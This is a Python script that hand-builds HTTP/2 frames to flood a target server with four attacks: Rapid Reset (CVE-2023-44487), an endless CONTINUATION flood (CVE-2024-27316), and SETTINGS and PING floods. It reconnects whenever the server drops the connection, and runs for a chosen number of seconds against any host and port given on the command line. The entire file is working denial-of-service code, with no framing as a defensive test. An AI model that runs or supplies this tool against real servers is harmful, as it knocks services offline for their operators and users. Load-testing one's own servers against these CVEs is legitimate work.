"""Hand-built HTTP/2 floods against a server, frame by frame (hpack from the `h2` package's
dependency for header blocks; everything else packed here).

  h2_flood.py KIND HOST PORT SECONDS

KIND: rapid_reset (HEADERS then RST_STREAM, CVE-2023-44487), continuation (HEADERS without
END_HEADERS then endless CONTINUATION, CVE-2024-27316), settings (SETTINGS frames, never reading
the ACKs), ping (PING frames, never reading the replies). The flood reconnects whenever the
server closes the connection, until SECONDS pass. Prints "frames=N connections=M".
"""
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(host, port):
    s = socket.create_connection((host, port), timeout=2)
    s.settimeout(0.5)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    return s


def batch(kind, state):
    """A batch of attack frames as bytes, and how many frames it holds."""
    enc = state["enc"]
    if kind == "rapid_reset":
        out = []
        for _ in range(100):
            sid = state["sid"]
            state["sid"] += 2
            block = enc.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "x")])
            out.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, block))
            out.append(frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))  # CANCEL
        return b"".join(out), 200
    if kind == "continuation":
        if not state["opened"]:
            state["opened"] = True
            block = enc.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "x")])
            return frame(HEADERS, END_STREAM, 1, block), 1
        # literal header field without indexing, new name: 0x00, name, value (7-bit lengths < 127 here)
        payload = (b"\x00\x05x-pad\x63" + b"a" * 99) * 150
        return frame(CONTINUATION, 0, 1, payload), 1
    if kind == "settings":
        return b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + i)) for i in range(100)), 100
    if kind == "ping":
        return b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(100)), 100
    raise SystemExit("unknown kind " + kind)


def main():
    kind, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    end = time.time() + seconds
    frames = conns = 0
    while time.time() < end:
        try:
            s = connect(host, port)
        except OSError:
            time.sleep(0.01)
            continue
        conns += 1
        state = {"enc": hpack.Encoder(), "sid": 1, "opened": False}
        try:
            while time.time() < end:
                data, n = batch(kind, state)
                s.sendall(data)
                frames += n
        except OSError:
            pass  # closed by the server (GOAWAY), or blocked: reconnect
        finally:
            s.close()
    print("frames=%d connections=%d" % (frames, conns), flush=True)


if __name__ == "__main__":
    main()
